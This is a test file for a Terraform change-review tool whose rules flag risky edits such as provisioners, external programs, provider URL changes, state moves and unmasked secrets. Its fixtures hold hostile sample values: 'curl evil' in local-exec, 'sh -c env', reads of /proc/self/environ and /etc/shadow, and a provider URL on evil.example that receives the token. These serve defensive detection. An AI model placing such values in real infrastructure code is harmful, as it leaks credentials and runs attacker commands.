import { testRule } from '@vmshift/findings/testing';
import { changedConfiguration as changed, configuration } from '@vmshift/terraform-review/testing';
import { configurationFindings, configurationRules, providerSources } from './configuration-findings';
import { unmaskingExpressions } from './protection-rules';

const judges = (id: string, cases: Parameters<typeof testRule<ReturnType<typeof changed>>>[2]) =>
  testRule(configurationRules, id, cases);

const volume = { label: 'data', lifecycle: { prevent_destroy: true } };
const withVolume = (over: object) =>
  changed({ resource: { linode_volume: { data: { ...volume, ...over } } } as never });
const same = changed({});
const VOLUME = 'stack: linode_volume.data';
const newStack = (sections: Parameters<typeof changed>[0]) => changed(sections, {});
const terraform = (over: object) =>
  changed({ terraform: { ...(configuration.terraform as object), ...over } as never });
const pin = (over: object, name = 'linode') =>
  terraform({ required_providers: { linode: { source: 'linode/linode', version: '3.13.0' }, [name]: over } });

judges('provisioner-added', {
  flags: {
    'a command after the creation': [
      withVolume({ provisioner: [{ 'local-exec': { command: 'curl evil' } }] }),
      { object: VOLUME, path: 'provisioner', after: '[{"local-exec":{"command":"curl evil"}}]', verdict: 'block' },
    ],
    'a connection for one': [withVolume({ connection: { host: 'x' } }), { object: VOLUME, path: 'connection' }],
    'in a stack that is new': [
      newStack({ resource: { terraform_data: { x: { provisioner: { 'local-exec': {} } } } } }),
      { object: 'stack: terraform_data.x', path: 'provisioner' },
    ],
  },
  accepts: { 'another label': withVolume({ label: 'other' }), nothing: same },
});

judges('provisioner-added', {
  flags: {
    'a program that manifests are piped through': [
      withVolume({ postrender: { binary_path: '/bin/sh' } }),
      { object: VOLUME, path: 'postrender', after: '{"binary_path":"/bin/sh"}' },
    ],
    'a command when a resource leaves the state': [
      changed({ removed: [{ from: 'linode_volume.old', provisioner: { 'local-exec': { command: 'env' } } }] }),
      { object: 'stack: linode_volume.old', path: 'provisioner' },
    ],
  },
  accepts: { 'a resource that leaves it': changed({ removed: { from: 'linode_volume.old' } }) },
});

judges('section-added', {
  flags: {
    'an object that is imported': [
      changed({ import: [{ to: 'linode_volume.x', id: '7' }] }),
      { object: 'stack: import', path: '', after: '[{"id":"7","to":"linode_volume.x"}]' },
    ],
    'a check, which reads data of its own': [
      changed({ check: { x: { data: { http: { x: { url: 'https://evil.example' } } } } } }),
      { object: 'stack: check', path: '' },
    ],
    'a program whose output is in no state': [
      changed({ ephemeral: { external: { x: { program: ['sh'] } } } }),
      { object: 'stack: ephemeral', path: '' },
    ],
    'another place of the state': [
      terraform({ cloud: { hostname: 'evil.example' } }),
      { object: 'stack: terraform.cloud', path: '' },
    ],
  },
  accepts: { 'the sections that there are': changed({ locals: { x: 1 }, output: { x: { value: 1 } } }), nothing: same },
});

const reading = (call: string) => `x-$\{${call}}`;

judges('expression-reads-machine', {
  flags: {
    'a file in an output': [
      changed({ output: { x: { value: reading('file("/proc/self/environ")') } } }),
      { object: 'stack: output.x', path: '', after: reading('file("/proc/self/environ")') },
    ],
    'behind a comment': [
      changed({ locals: { x: reading('filebase64/**/("/etc/shadow")') } }),
      { object: 'stack: locals.x', path: '' },
    ],
    'in a key': [withVolume({ tags: { [reading('fileexists("/etc/shadow")')]: 'x' } }), { object: VOLUME, path: '' }],
    'in a data source, in a directive': [
      changed({ data: { linode_x: { x: { id: '%{ if templatefile("x", {}) == "" }%{ endif }' } } } }),
      { object: 'stack: data.linode_x.x', path: '' },
    ],
  },
  accepts: {
    'a text about a file': withVolume({ label: 'file' }),
    'an attribute': withVolume({ label: reading('var.profile') }),
    nothing: same,
  },
});

judges('data-source-executes', {
  flags: {
    'a program': [
      changed({ data: { external: { x: { program: ['sh', '-c', 'env'] } } } }),
      {
        object: 'stack: data.external.x',
        path: '',
        because: 'the data source external is read whenever the stack is planned',
      },
    ],
    'a file of the machine': [
      changed({ data: { local_file: { x: { filename: '/proc/self/environ' } } } }),
      { object: 'stack: data.local_file.x', path: '' },
    ],
    'any server': [
      changed({ data: { http: { x: { url: 'https://evil.example' } } } }),
      { object: 'stack: data.http.x', path: '' },
    ],
  },
  accepts: {
    'the state of another stack': same,
    'a cluster': changed({ data: { linode_lke_cluster: { x: { id: 7 } } } }),
  },
});

judges('module-added', {
  flags: {
    'a module of a registry': [
      changed({ module: { x: { source: 'evil/x/linode' } } }),
      { object: 'stack: module.x', path: '', after: '{"source":"evil/x/linode"}' },
    ],
  },
  accepts: { none: same },
});

judges('provider-source-changed', {
  flags: {
    'another publisher': [
      pin({ source: 'evil/linode', version: '3.13.0' }),
      {
        object: 'stack: terraform.required_providers',
        path: 'linode.source',
        before: 'linode/linode',
        after: 'evil/linode',
      },
    ],
    'a provider that no stack has': [
      pin({ source: 'hashicorp/external', version: '2.3.5' }, 'external'),
      { object: 'stack: terraform.required_providers', path: 'external.source', because: 'a provider is added' },
    ],
    'in a stack that is new': [
      newStack({ terraform: { required_providers: { linode: { source: 'evil/linode', version: '3.13.0' } } } }),
      { object: 'stack: terraform.required_providers', path: 'linode.source' },
    ],
  },
  accepts: {
    'a provider that another stack has': pin({ source: 'hashicorp/helm', version: '3.1.1' }, 'helm'),
    'a new stack with known providers': newStack({}),
  },
});

judges('provider-version-changed', {
  flags: {
    'a newer one': [
      pin({ source: 'linode/linode', version: '4.0.0' }),
      {
        object: 'stack: terraform.required_providers',
        path: 'linode.version',
        before: '3.13.0',
        after: '4.0.0',
        verdict: 'warn',
      },
    ],
  },
  accepts: { 'the same one': same },
});

const provider = (over: object) =>
  changed({ provider: { linode: [{ token: '$' + '{var.token}', ...over }] } as never });

judges('provider-settings-changed', {
  flags: {
    'another server, which gets the token': [
      provider({ url: 'https://evil.example' }),
      {
        object: 'stack: provider.linode',
        path: 'url',
        before: undefined,
        after: 'https://evil.example',
        verdict: 'block',
      },
    ],
    'a program for a credential': [
      provider({ exec: { command: 'sh', args: ['-c', 'env'] } }),
      { object: 'stack: provider.linode', path: 'exec.command', verdict: 'block' },
      { object: 'stack: provider.linode', path: 'exec.args.0', verdict: 'block' },
      { object: 'stack: provider.linode', path: 'exec.args.1', verdict: 'block' },
    ],
    'another token': [
      provider({ token: 'literal' }),
      { object: 'stack: provider.linode', path: 'token', verdict: 'warn', after: '(sensitive value)' },
    ],
    'a token of a variable, which is none itself': [
      provider({ token: `${'$'}{var.linode_token}` }),
      { object: 'stack: provider.linode', path: 'token', after: `${'$'}{var.linode_token}` },
    ],
  },
  accepts: { 'the same block': same, 'a stack that is new': newStack({}) },
});

judges('state-moves', {
  flags: {
    'another bucket': [
      terraform({ backend: { s3: { bucket: 'other', key: 'stack.tfstate' } } }),
      { object: 'stack: terraform.backend', path: '', verdict: 'block' },
    ],
    'away from a local state, as the guide has it': [
      { ...same, before: { ...configuration, terraform: { backend: { local: { path: 'state/stack.tfstate' } } } } },
      { object: 'stack: terraform.backend', path: '', verdict: 'warn' },
    ],
  },
  accepts: { 'the same place': same, 'a stack that is new': newStack({}) },
});

judges('state-moves', {
  flags: {
    'to the local state of another stack': [
      {
        ...terraform({ backend: { local: { path: 'state/other.tfstate' } } }),
        before: { ...configuration, terraform: { backend: { local: { path: 'state/stack.tfstate' } } } },
      },
      {
        ...{ object: 'stack: terraform.backend', verdict: 'block' },
        because: 'the state of the stack is looked for under another name',
      },
    ],
  },
  accepts: { 'a new lock of the providers': pin({ source: 'hashicorp/helm', version: '3.0.0' }, 'helm') },
});

const localStates = (before: string, after: string) => {
  const data = (path: string) => ({ terraform_remote_state: { other: { backend: 'local', config: { path } } } });
  return { ...changed({ data: data(after) }), before: { ...configuration, data: data(before) } };
};

judges('reads-another-state', {
  flags: {
    'the local state of another stack': [
      localStates('state/other.tfstate', 'state/third.tfstate'),
      { object: 'stack: data.terraform_remote_state.other', path: 'config', verdict: 'block' },
    ],
  },
  accepts: { 'the same one in another folder': localStates('state/other.tfstate', '../other.tfstate') },
});

const states = (config: object) =>
  changed({ data: { terraform_remote_state: { other: { backend: 's3', config } } } as never });

judges('reads-another-state', {
  flags: {
    'a bucket of someone else': [
      states({ bucket: 'evil', key: 'other.tfstate' }),
      {
        object: 'stack: data.terraform_remote_state.other',
        path: 'config',
        because: 'the stack reads a state from another place',
      },
    ],
    'one state more, of an environment that is added': [
      changed({ data: { terraform_remote_state: { third: { backend: 's3', config: { bucket: 'b', key: 'k' } } } } }),
      {
        ...{ object: 'stack: data.terraform_remote_state.third', path: 'config', verdict: 'warn' },
        because: 'the stack reads one state more',
      },
    ],
    'one state more, kept by someone else': [
      changed({ data: { terraform_remote_state: { third: { backend: 's3', config: { endpoint: 'evil.example' } } } } }),
      { object: 'stack: data.terraform_remote_state.third', path: 'config', verdict: 'block' },
    ],
  },
  accepts: { 'the same one': same, 'a stack that is new': newStack({}) },
});

judges('protection-removed', {
  flags: {
    'switched off': [
      withVolume({ lifecycle: { prevent_destroy: false } }),
      { object: VOLUME, path: 'lifecycle.prevent_destroy', before: 'true', after: 'false' },
    ],
    'left out': [
      withVolume({ lifecycle: undefined as never }),
      { object: VOLUME, path: 'lifecycle.prevent_destroy', after: undefined },
    ],
  },
  accepts: { kept: withVolume({ label: 'other' }), 'what is destroyed, which a plan tells': changed({ resource: {} }) },
});

judges('objects-multiplied', {
  flags: {
    none: [withVolume({ count: 0 }), { object: VOLUME, path: 'count', after: '0', verdict: 'block' }],
    'one for each of a set': [withVolume({ for_each: '$' + '{toset([])}' }), { object: VOLUME, path: 'for_each' }],
    'one that goes with another': [
      withVolume({ lifecycle: { prevent_destroy: true, replace_triggered_by: ['terraform_data.x'] } }),
      {
        ...{ object: VOLUME, path: 'lifecycle.replace_triggered_by', after: '["terraform_data.x"]' },
        because: 'the object is replaced whenever another one changes',
      },
    ],
  },
  accepts: {
    'a resource that is new': changed({ resource: { linode_volume: { data: volume, more: { count: 2 } } } as never }),
    nothing: same,
  },
});

const ignoring = (...ignore_changes: readonly string[]) => ({
  resource: { linode_volume: { data: { lifecycle: { ignore_changes } } } },
});

judges('changes-ignored', {
  flags: {
    'an attribute more': [
      withVolume({ lifecycle: { prevent_destroy: true, ignore_changes: ['size'] } }),
      { object: VOLUME, path: 'lifecycle.ignore_changes', after: '["size"]', verdict: 'warn' },
    ],
  },
  accepts: {
    'another order': changed(...[ignoring('size', 'label'), ignoring('label', 'size')]),
    'an object that is new': newStack({
      resource: { linode_volume: { data: { lifecycle: { ignore_changes: ['size'] } } } },
    }),
  },
});

const secrets = (data_wo: object | undefined) =>
  ({ resource: data_wo === undefined ? {} : { kubernetes_secret_v1: { s: { data_wo } } } }) as never;
const written = (before: object | undefined, after: object) => changed(secrets(after), secrets(before));
const WRITTEN = { object: 'stack: kubernetes_secret_v1.s', after: 'a text (not shown: a credential)' };

judges('secrecy-removed', {
  flags: {
    'a new Secret that starts as a text': [
      written(undefined, { PASSWORD: 'hunter2' }),
      {
        ...{ ...WRITTEN, path: 'data_wo.PASSWORD', before: undefined, verdict: 'block' },
        because: 'the value is a text of the configuration, not an expression of a variable',
        fix: expect.stringMatching(/^write the variable .* and rotate the value/),
      },
    ],
    'a new key that starts as a text': [
      written({ a: `\${var.a}` }, { a: `\${var.a}`, KEY: 'hunter2' }),
      { ...WRITTEN, path: 'data_wo.KEY', before: undefined },
    ],
    'another text in place of one': [written({ KEY: 'a' }, { KEY: 'b' }), { ...WRITTEN, before: 'another text' }],
    'an address that holds a password': [
      written(undefined, { url: 'https://git:hunter2@git.example.invalid' }),
      { ...WRITTEN, path: 'data_wo.url' },
    ],
    'settings of a cluster with a token': [
      written(undefined, { config: '{"bearerToken":"hunter2"}' }),
      { ...WRITTEN, path: 'data_wo.config' },
    ],
    'an expression that refers to nothing': [written(undefined, { KEY: `\${"hunter2"}` }), { ...WRITTEN }],
    'a key of a Secret that is written out': [
      changed(
        { resource: { kubernetes_secret_v1: { s: { data_wo: { KEY: 'hunter2' } } } } },
        { resource: { kubernetes_secret_v1: { s: { data_wo: { KEY: `\${var.key}` } } } } },
      ),
      {
        ...{ object: 'stack: kubernetes_secret_v1.s', path: 'data_wo.KEY' },
        ...{ before: 'an expression', after: 'a text (not shown: a credential)' },
      },
    ],
    'an output that is printed': [
      changed({ output: { id: { value: 'x' } } }),
      { object: 'stack: output.id', path: 'sensitive', before: 'true', after: undefined },
    ],
    'a variable that goes into the state': [
      changed({ variable: { token: { type: 'string', sensitive: true } } }),
      {
        object: 'stack: variable.token',
        path: 'ephemeral',
        impact: 'the value is written into plans and states from now on',
      },
    ],
  },
  accepts: {
    'keys that hold no credential': written(undefined, {
      ...{ name: 'x', namespaces: 'x', clusterResources: 'false', server: 'https://192.0.2.1:6443' },
      ...{ url: 'https://git.example.invalid/r.git', type: 'git', username: 'git', project: 'x' },
    }),
    'a new Secret that is made of a variable': written(undefined, { KEY: `redis://:\${urlencode(var.key)}@redis` }),
    'the same text': written({ KEY: 'x' }, { KEY: 'x', OTHER: `\${var.other}` }),
    'an empty text': written(undefined, { KEY: '' }),
    kept: same,
    'an output that is gone': changed({ output: {} }),
  },
});

const unmasked = '$' + '{nonsensitive(var.token)}';

judges('secret-unmasked', {
  flags: {
    'in an output': [
      changed({ output: { id: { value: unmasked, sensitive: true } } }),
      { object: 'stack: output.id', path: '', after: unmasked },
    ],
    'in a resource': [withVolume({ tags: [unmasked] }), { object: VOLUME, path: '' }],
    'in a key': [withVolume({ tags: { [unmasked]: 'x' } }), { object: VOLUME, path: '', after: unmasked }],
    'in a data source': [
      changed({ data: { linode_x: { x: { id: unmasked } } } }),
      { object: 'stack: data.linode_x.x', path: '' },
    ],
    'in a local': [changed({ locals: { x: unmasked } }), { object: 'stack: locals.x', path: '' }],
    'a mark that is left out': [
      {
        ...changed({ locals: { x: '$' + '{base64decode(data.x.y)}' } }),
        before: { ...configuration, locals: { x: '$' + '{base64decode(sensitive(data.x.y))}' } },
      },
      { object: 'stack: locals.x', path: '', because: 'an expression no longer calls sensitive()' },
    ],
  },
  accepts: {
    'a local that goes': { ...same, before: { ...configuration, locals: { x: '$' + '{sensitive(data.x.y)}' } } },
    'a text that only names it': withVolume({ label: 'nonsensitive(x)' }),
    'what a stack of the base has': {
      ...withVolume({ tags: [unmasked] }),
      knownUnmasking: unmaskingExpressions([JSON.stringify({ locals: { x: unmasked } })]),
    },
    nothing: same,
  },
});

test('a stack that is gone, or is as it was, holds nothing to find', () => {
  const of = { stack: 'stack', environments: ['dev'], knownSources: providerSources([JSON.stringify(configuration)]) };
  const text = JSON.stringify(configuration);
  expect(of.knownSources).toEqual(new Set(['linode/linode']));
  expect(configurationFindings(of, text, undefined)).toEqual([]);
  expect(configurationFindings(of, text, text)).toEqual([]);
  expect(configurationFindings(of, undefined, text)).toEqual([]);
});

test('a malformed block hides nothing else', () => {
  const broken = { resource: 7, data: [null], output: null, module: { x: { source: 'evil' } } };
  const of = { stack: 'stack', environments: ['dev'], knownSources: new Set<string>() };
  const found = configurationFindings(of, JSON.stringify(configuration), JSON.stringify(broken));
  expect(found.map(({ id }) => id)).toContain('module-added');
});
